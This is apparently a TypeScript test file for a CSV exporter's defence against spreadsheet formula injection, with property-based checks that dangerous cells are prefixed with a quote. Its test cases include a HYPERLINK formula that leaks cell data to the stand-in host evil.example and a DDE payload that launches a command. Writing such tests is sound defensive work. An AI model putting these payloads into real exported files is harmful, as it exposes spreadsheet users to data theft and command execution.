import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { anyText } from '#/test/any-text.ts'
import { guardFormula, toCsv } from './csv.ts'

/** A reader of RFC 4180 that knows nothing of the writer. */
function parse(csv: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let at = 0
  while (at < csv.length) {
    let value = ''
    if (csv[at] === '"') {
      at += 1
      for (;;) {
        const quote = csv.indexOf('"', at)
        value += csv.slice(at, quote)
        at = quote + 1
        if (csv[at] !== '"') break
        value += '"'
        at += 1
      }
    } else {
      const end = csv.slice(at).search(/,|\r\n/)
      value = csv.slice(at, at + end)
      at += end
    }
    record.push(value)
    if (csv[at] === ',') at += 1
    else {
      expect(csv.slice(at, at + 2)).toBe('\r\n')
      at += 2
      records.push(record)
      record = []
    }
  }
  return records
}

describe('csv', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"open")'],
    ["=cmd|'/c calc'!A0"],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(1,1)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['\0=1+1'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠x'],
    [' =1+1'],
    ['\u200b=1+1'],
    ['\ufeff=1+1'],
    ['\tx'],
    ['\rx'],
    ['-starts-with-hyphen.example'],
  ])('P12 the formula %j is text', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`)
    expect(parse(toCsv(['a'], [[text]]))[1]).toEqual([`'${text}`])
  })

  it.each(['northbank.com', "'quoted'", '10-2', 'a=b', '', '例え'])(
    'leaves the text %j as it is',
    (text) => {
      expect(guardFormula(text)).toBe(text)
    },
  )

  it('writes a record that holds quotes, separators and line breaks as one', () => {
    expect(toCsv(['host', 'note'], [['a.example', 'a,"b"\r\nc;d']])).toBe(
      'host,note\r\na.example,"a,""b""\r\nc;d"\r\n',
    )
  })

  it('writes numbers as numbers, and nothing for what is not there', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[-5, 0.25, null, Number.NaN]])).toBe(
      'a,b,c,d\r\n-5,0.25,,\r\n',
    )
  })

  it('reads back as the guarded texts, whatever they are', () => {
    const text = fc.oneof(
      anyText(),
      fc.string({ unit: fc.constantFrom(...Array.from('=+-@"\',;\t\r\n\0 a＝')) }),
    )
    const table = fc
      .integer({ min: 1, max: 5 })
      .chain((width) =>
        fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1 }),
      )
    fc.assert(
      fc.property(table, (rows) => {
        const [header = [], ...rest] = rows
        const guarded = rows.map((row) => row.map(guardFormula))
        // One empty field alone is an empty line.
        fc.pre(guarded.every((row) => row.join('') !== '' || row.length > 1))
        expect(parse(toCsv(header, rest))).toEqual(guarded)
        for (const cell of guarded.flat())
          expect(cell).not.toMatch(/^[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
      }),
    )
  })
})
